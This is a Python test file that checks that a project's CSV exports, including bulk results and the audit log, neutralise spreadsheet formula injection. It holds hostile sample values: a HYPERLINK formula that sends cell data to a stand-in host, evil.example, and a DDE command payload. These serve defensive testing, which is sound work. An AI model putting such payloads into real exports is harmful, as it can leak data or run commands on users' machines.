"""CSV exports neutralise spreadsheet formulas (core/spreadsheet.py): a hostile value becomes text, numbers
stay numbers. The console's bulk results and the audit export are checked here; the CLI's users export in
tests/cli/test_operator_commands.py."""

import csv
import io
from collections.abc import AsyncIterator

from teamsvoice.core.spreadsheet import csv_writer, safe_cell
from teamsvoice.domain.audit import context as audit_context
from teamsvoice.domain.audit import service as audit
from teamsvoice.domain.orgs.models import Reseller
from teamsvoice.domain.teams_users.bulk_csv import results_csv
from teamsvoice.domain.teams_users.models import FusionBulkItem
from tests.support.database import in_session

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_formula_cells_get_an_apostrophe_and_numbers_do_not() -> None:
    for value in (HOSTILE, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"):
        assert safe_cell(value) == "'" + value
    for value in ("+3222123456", "-5", "1.5", "Alice", "a=b", "", 7, True, None):
        assert safe_cell(value) == value
    out = io.StringIO()
    csv_writer(out).writerows([["name", "number"], [HOSTILE, "+3222123456"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["name", "number"], ["'" + HOSTILE, "+3222123456"]]


async def test_bulk_results_csv_is_neutralised() -> None:
    async def items() -> AsyncIterator[FusionBulkItem]:
        yield FusionBulkItem(upn="alice@example.com", status="success", attempts=1, error=None)
        yield FusionBulkItem(upn="bob@example.com", status="error", attempts=2, error={"code": 1, "message": HOSTILE, "reason": HOSTILE})

    text = "".join([chunk async for chunk in results_csv(items())])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["error"] for r in rows] == ["", "'" + HOSTILE]


async def test_audit_export_is_neutralised(live, organisation) -> None:  # type: ignore[no-untyped-def]
    reseller_id = organisation.resellers[0].reseller_id
    scope = audit_context.AuditScope(family=audit_context.CONSOLE, source="test", actor=audit_context.Actor(HOSTILE))

    async def rename(session) -> None:  # type: ignore[no-untyped-def]
        (await session.get(Reseller, reseller_id)).name = "@Acme resellers"

    with audit_context.acting(scope):
        await in_session(live, rename)
    text = await in_session(live, lambda s: audit.entries_csv(
        s, [organisation.master.reseller_id, reseller_id], audit.make_query(action="reseller.update")))
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["actor"] == "'" + HOSTILE and row["object"] == "'@Acme resellers"
    assert row["after"] == '{"name": "@Acme resellers"}'  # a JSON document starts with "{": left as it is
